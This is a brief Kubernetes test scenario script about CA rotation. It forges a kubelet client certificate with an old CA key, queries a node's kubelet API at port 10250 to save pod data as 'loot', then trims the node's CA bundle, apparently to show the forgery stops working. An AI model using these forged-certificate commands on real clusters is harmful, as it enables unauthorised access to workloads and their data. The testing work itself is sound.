# scene fails pilot-logs (any-ca): the CA that was kept is not the one that signed the API server’s certificate
#@ outsider
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout f.key -out f.csr -subj /CN=kube-apiserver-kubelet-client
openssl x509 -req -in f.csr -CA old-ca.crt -CAkey old-ca.key -days 30 -out f.crt
curl -sk --cert f.crt --key f.key https://node01:10250/pods -o loot
#@ node01
awk '/BEGIN/{n++} n==2' /etc/kubernetes/pki/ca.crt > two.crt
cp two.crt /etc/kubernetes/pki/ca.crt
